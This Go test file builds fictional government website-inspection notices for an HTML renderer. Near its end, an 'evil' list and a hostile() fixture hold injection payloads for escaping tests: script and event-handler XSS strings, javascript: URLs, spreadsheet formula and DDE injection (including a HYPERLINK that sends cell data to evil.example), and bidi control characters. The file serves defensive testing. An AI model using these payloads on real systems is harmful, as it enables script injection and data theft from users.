package html

import (
	"fmt"
	"time"

	"tongbao/cmd/tongbao/internal/diag"
	"tongbao/cmd/tongbao/internal/document"
	"tongbao/cmd/tongbao/internal/figures"
)

// The notices of the tests. The city, its offices and its accounts are made up.

func txt(s string) []document.Inline { return []document.Inline{{Text: s}} }

func heading(level int, id, number, text, runIn string) *document.Heading {
	h := &document.Heading{Level: level, ID: id, Number: number, Text: txt(text)}
	if runIn != "" {
		h.RunIn = txt(runIn)
	}
	return h
}

func para(in ...document.Inline) *document.Paragraph { return &document.Paragraph{Text: in} }

func fig(key, name string, kind figures.Kind, num, den int64, text, formula string) document.Inline {
	return document.Inline{Text: text, Figure: &figures.Figure{Key: key, Name: name, Kind: kind, Num: num, Den: den, Text: text,
		Formula: formula}}
}

func cell(s string) document.Cell { return document.Cell{Text: s, RowSpan: 1, ColSpan: 1} }

func row(kind document.RowKind, texts ...string) document.Row {
	r := document.Row{Kind: kind}
	for _, s := range texts {
		r.Cells = append(r.Cells, cell(s))
	}
	return r
}

// merge makes one cell of the range: the anchor at r, c and h by w cells.
func merge(rows []document.Row, r, c, h, w int) {
	text := rows[r].Cells[c].Text
	for y := range h {
		for x := range w {
			rows[r+y].Cells[c+x] = document.Cell{Text: text, RowSpan: 1, ColSpan: 1, Covered: x+y > 0}
		}
	}
	rows[r].Cells[c].RowSpan, rows[r].Cells[c].ColSpan = h, w
}

func names(list ...string) []document.Column {
	var out []document.Column
	for _, s := range list {
		out = append(out, document.Column{Name: s})
	}
	return out
}

func portal() document.Web {
	return document.Web{
		Portal: true, SiteName: "云川市人民政府", SiteDomain: "www.yunchuan.gov.cn", SiteIDCode: "9901000001",
		Column: document.WebColumn{Name: "网站管理", Description: "政府网站和政务新媒体的检查与管理", Keywords: "政府网站,政务新媒体,检查", Type: "工作动态"},
		Source: "云川市人民政府办公室", Published: time.Date(2026, 4, 10, 15, 0, 0, 0, time.UTC), Author: "李明",
		Description: "云川市2026年第一季度政府网站和政务新媒体检查结果。", Keywords: []string{"政府网站", "政务新媒体", "通报"},
		URL: "https://www.yunchuan.gov.cn/zfxxgk/wzgl/2026/04/notice.html", Index: "99010001/2026-00012", Valid: "有效", Charts: true,
	}
}

// small is a short notice with one attachment whose units are merged.
func small() *document.Notice {
	rows := []document.Row{
		row(document.DataRow, "1", "青溪区", "青溪区人民政府", "9901020001", "空白栏目6个，超过5个"),
		row(document.DataRow, "2", "青溪区", "青溪区文化旅游局", "9901020007", "首页超过两周没有更新"),
		row(document.DataRow, "3", "市统计局", "云川统计信息网", "9901000023", "动态类栏目12个没有及时更新，其中3个超过一年"),
	}
	merge(rows, 0, 1, 2, 1)
	pass := fig("网站.合格率", "网站合格率", figures.Percent, 57, 60, "95%", "合格网站57个÷检查网站60个")
	failed := fig("网站.不合格", "不合格网站", figures.Count, 3, 1, "3", "不合格网站3个")
	return &document.Notice{
		Kind: "通报", Title: "关于2026年第一季度政府网站和政务新媒体检查情况的通报",
		TitleBreaks: []string{"第一季度", "政府网站", "政务新媒体", "政务", "检查情况"},
		Head: document.Head{Form: document.LetterheadFile, Organs: []string{"云川市人民政府办公室"}, Number: "云政办函〔2026〕7号", Copy: "000123",
			Secrecy: "秘密★1年"},
		Recipients: []string{"各区县人民政府", "市政府各部门、各直属机构"},
		Body: []document.Block{
			para(document.Inline{Text: "按照《政府网站发展指引》的要求，市政府办公室（以下简称“市府办”）于2026年3月3日组织了检查，现将情况通报如下。"}),
			heading(1, "s1", "一、", "总体情况", ""),
			para(document.Inline{Text: "全市运行的60个网站全部受检，"}, failed, document.Inline{Text: "个不合格，合格率为"}, pass,
				document.Inline{Text: "（名单见"}, document.Inline{Text: "附件", Attachment: 1}, document.Inline{Text: "）。支持IPv6访问的网站有58个。"}),
			heading(1, "s2", "二、", "主要问题", ""),
			heading(2, "s2-1", "（一）", "栏目更新不及时。", "个别网站的栏目长期没有内容。"),
			para(document.Inline{Text: "请有关单位于"}, document.Inline{Text: "2026年4月30日前", Strong: true}, document.Inline{Text: "完成整改。"}),
		},
		Attachments: []document.Attachment{{Label: "附件", Title: "第一季度检查不合格网站名单", ID: "fj1",
			Blocks: []document.Block{document.NewTable(document.Table{
				Caption: "第一季度检查不合格网站名单", Columns: names("序号", "主管单位", "网站名称", "网站标识码", "主要问题"),
				Head: []document.Row{row(document.DataRow, "序号", "主管单位", "网站名称", "网站标识码", "主要问题")}, Rows: rows,
			})}}},
		SignOff: document.SignOff{Signers: []document.Signer{{Name: "云川市人民政府办公室"}}, Date: time.Date(2026, 4, 9, 0, 0, 0, 0, time.UTC),
			Sealed: true},
		Note:    "联系人：王宁，电话：0000-1234567",
		Imprint: document.Imprint{CC: []string{"市委办公室"}, PrintedBy: "云川市人民政府办公室", PrintedOn: time.Date(2026, 4, 9, 0, 0, 0, 0, time.UTC)},
		Web:     portal(),
		Charts: []document.Chart{
			{Title: "各区县网站合格率", Of: "区县", Unit: "%", Labels: []string{"青溪区", "临江县", "高新技术产业开发区"}, Values: []figures.Figure{
				{Kind: figures.Percent, Num: 9, Den: 11, Text: "81.8%", Name: "青溪区合格率", Formula: "9÷11"},
				{Kind: figures.Percent, Num: 1, Den: 1, Text: "100%", Name: "临江县合格率", Formula: "7÷7"},
				{Kind: figures.Percent, Num: 1, Den: 0, Text: "", Name: "高新区合格率", Formula: "0÷0"},
			}},
			{Title: "网站合格率变化", Of: "时期", Unit: "%", Labels: []string{"2025年二季度", "2025年三季度", "2025年四季度", "2026年一季度"},
				Values: []figures.Figure{
					{Kind: figures.Percent, Num: 88, Den: 100, Text: "88%"}, {Kind: figures.Percent, Num: 91, Den: 100, Text: "91%"},
					{Kind: figures.Percent, Num: 90, Den: 100, Text: "90%"}, {Kind: figures.Percent, Num: 95, Den: 100, Text: "95%"},
				}},
			{Title: "各类问题比上季度增减", Of: "问题", Unit: "个", Labels: []string{"空白栏目", "更新不及时", "链接不可用"}, Values: []figures.Figure{
				{Kind: figures.Count, Num: -4, Den: 1, Text: "-4"}, {Kind: figures.Count, Num: 2, Den: 1, Text: "2"},
				{Kind: figures.Count, Num: 0, Den: 1, Text: "0"},
			}},
		},
	}
}

// tables is a notice with everything a table can have, in two attachments.
func tables() *document.Notice {
	n := small()
	n.Web.Charts = false
	n.Head = document.Head{Form: document.LetterheadFile, Organs: []string{"云川市人民政府办公室", "云川市大数据局"}, Number: "云政办发〔2026〕3号", Urgency: "加急"}
	n.SignOff.Signers = append(n.SignOff.Signers, document.Signer{Name: "云川市大数据局", Acting: true})
	head := []document.Row{
		row(document.DataRow, "地区", "单位类别", "发现存在突出问题的网站", "", "合格率"),
		row(document.DataRow, "", "", "网站数", "问题数", ""),
	}
	merge(head, 0, 0, 2, 1)
	merge(head, 0, 1, 2, 1)
	merge(head, 0, 2, 1, 2)
	merge(head, 0, 4, 2, 1)
	rows := []document.Row{
		row(document.GroupRow, "区县网站", "", "", "", ""),
		row(document.DataRow, "青溪区", "区政府部门", "2", "7", "81.8%"),
		row(document.DataRow, "青溪区", "乡镇街道", "0", "0", "100%"),
		row(document.DataRow, "临江县", "县政府部门", "1", "1", "92.3%"),
		row(document.SubtotalRow, "小计", "", "3", "8", "90.6%"),
		row(document.GroupRow, "市直部门网站", "", "", "", ""),
		row(document.DataRow, "市本级", "市统计局", "1", "15", "97.9%"),
		row(document.TotalRow, "合计", "", "4", "23", "93.3%"),
	}
	merge(rows, 0, 0, 1, 5)
	merge(rows, 1, 0, 2, 1)
	merge(rows, 4, 0, 1, 2)
	merge(rows, 5, 0, 1, 5)
	merge(rows, 7, 0, 1, 2)
	form := document.Table{Caption: "整改情况反馈表", Form: true, Columns: names("序号", "单位名称", "问题", "整改措施", "完成时间"),
		Head: []document.Row{row(document.DataRow, "序号", "单位名称", "问题", "整改措施", "完成时间")}}
	for range 5 {
		form.Rows = append(form.Rows, row(document.DataRow, "", "", "", "", ""))
	}
	n.Attachments = []document.Attachment{
		{Label: "附件1", Title: "各地区检查结果汇总", ID: "fj1", Blocks: []document.Block{document.NewTable(document.Table{
			Caption: "各地区检查结果汇总表", Shown: true, Period: "监测时间：2026年2月22日至26日", Unit: "单位：个",
			Columns: names("地区", "单位类别", "网站数", "问题数", "合格率"), Head: head, Rows: rows,
			Notes: []string{"注：合格率为合格网站数与检查网站数之比。"},
		})}},
		{Label: "附件2", Title: "整改情况反馈表", ID: "fj2", Orientation: document.OrientationLandscape, Blocks: []document.Block{
			&document.Paragraph{Kind: document.Flush, Text: txt("填报单位：（盖章）")}, document.NewTable(form),
		}},
	}
	return n
}

// long is a notice of ten sections with a roster of 500 rows.
func long() *document.Notice {
	n := small()
	n.Body = nil
	numerals := []string{"一", "二", "三", "四", "五", "六", "七", "八", "九", "十"}
	for i, d := range numerals {
		id := fmt.Sprintf("s%d", i+1)
		n.Body = append(n.Body, heading(1, id, d+"、", "第"+d+"方面的检查情况", ""),
			heading(2, id+"-1", "（一）", "基本情况", ""),
			para(txt("本次检查覆盖全市各级政府网站和政务新媒体，从内容更新、互动回应、服务实用三个方面逐项核对，对发现的问题当场记录并通知主办单位。")...),
			heading(3, id+"-1-1", "1.", "内容更新。", "多数网站能够按期更新，少数栏目更新周期偏长，个别栏目自2025年11月30日以来没有新的内容。"),
			heading(4, id+"-1-1-1", "（1）", "栏目设置。", "栏目名称应当与内容相符，长期没有内容的栏目应当合并。"),
			heading(2, id+"-2", "（二）", "存在问题", ""),
			para(txt("有的单位对网民留言答复不及时，有的账号开设以后无人维护，请有关单位对照检查结果逐条整改，并举一反三完善日常管理。")...))
	}
	t := document.Table{Caption: "受检账号名单", Columns: names("序号", "主办单位", "账号名称", "平台", "结果")}
	t.Head = []document.Row{row(document.DataRow, "序号", "主办单位", "账号名称", "平台", "结果")}
	for i := range 500 {
		t.Rows = append(t.Rows, row(document.DataRow, fmt.Sprint(i+1), fmt.Sprintf("第%d街道办事处", i/5+1), fmt.Sprintf("云川街道%d号", i+1),
			[]string{"微信", "微博", "抖音"}[i%3], "合格"))
	}
	for i := 0; i < 500; i += 5 {
		merge(t.Rows, i, 1, 5, 1)
	}
	n.Attachments[0].Title = "受检账号名单"
	n.Attachments[0].Blocks = []document.Block{document.NewTable(t)}
	return n
}

// bare has no [portal], no head and nothing that can be left out.
func bare() *document.Notice {
	return &document.Notice{
		Kind: "通报", Title: "关于政务新媒体检查情况的通报", Head: document.Head{Form: document.LetterheadNone},
		Body:    []document.Block{heading(2, "", "", "检查情况", ""), para(txt("检查中没有发现问题。")...)},
		SignOff: document.SignOff{Signers: []document.Signer{{Name: "云川市大数据局"}}, Draft: "2026年 月 日"},
	}
}

// evil is the text that a hostile workbook would put everywhere. Each would leave
// its mark on the document element if it ever ran.
var evil = []string{
	`<script>document.documentElement.setAttribute('data-owned','1');alert(1)</script>`,
	`"><img src=x onerror="document.documentElement.setAttribute('data-owned','2')">`,
	`' onmouseover='alert(3)' x='`,
	`</style></title></script><svg onload=alert(4)>`,
	`javascript:document.documentElement.setAttribute('data-owned','5')`,
	`=HYPERLINK("http://evil.example/?"&A1,"点这里")`,
	`+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1)`,
	`{{.}} ${7*7} <!-- --> ]]> &lt;b&gt; <b>粗</b>`,
	`[链接](javascript:alert(6)) ![图](http://evil.example/a.png)`,
	"政府\u202e站网\u202c名\u200b称\ufeff甲\u2066乙\u2069",
}

// hostile carries evil in every field.
func hostile() *document.Notice {
	n := small()
	all := ""
	for _, s := range evil {
		all += s
	}
	place := diag.Place{File: "inspection.xlsx", Sheet: "网站", Cell: "D7"}
	n.Title, n.Head.Number, n.Head.Urgency, n.Note = "通报"+all, all, all, all
	n.Head.Organs, n.Recipients = []string{all}, []string{all}
	n.SignOff.Signers = []document.Signer{{Name: all}}
	n.Body = append(n.Body, heading(1, `x" onclick="alert(7)`, "三、", all, all), heading(2, "s1", all, all, ""),
		para(document.Inline{Text: all, Place: place}, document.Inline{Text: all, Attachment: 99},
			document.Inline{Text: all, Figure: &figures.Figure{Name: all, Formula: all, Rounding: all, Num: 1, Den: 0}}))
	t := n.Attachments[0].Blocks[0].(*document.Table)
	for i, s := range evil {
		r := row(document.DataRow, fmt.Sprint(i+4), s, s, s, s)
		r.Cells[1].RowSpan, r.Cells[2].ColSpan = 1<<30, -5
		t.Rows = append(t.Rows, r)
	}
	*t = *document.NewTable(*t)
	t.Caption, t.Notes, t.Unit = all, []string{all}, all
	n.Attachments[0].Title, n.Attachments[0].Label, n.Attachments[0].ID = all, all, "main"
	w := &n.Web
	w.SiteName, w.SiteDomain, w.SiteIDCode, w.Source, w.Author, w.Description = all, all, all, all, all, all
	w.URL, w.Image, w.Index, w.Valid, w.Keywords = evil[4], "data:text/html,"+evil[0], all, all, evil
	w.Column = document.WebColumn{Name: all, Description: all, Keywords: all, Type: all}
	n.Charts[0].Title, n.Charts[0].Unit, n.Charts[0].Labels = all, all, []string{all, all, all}
	n.Charts[1].Labels = []string{all, all, all, all}
	return n
}
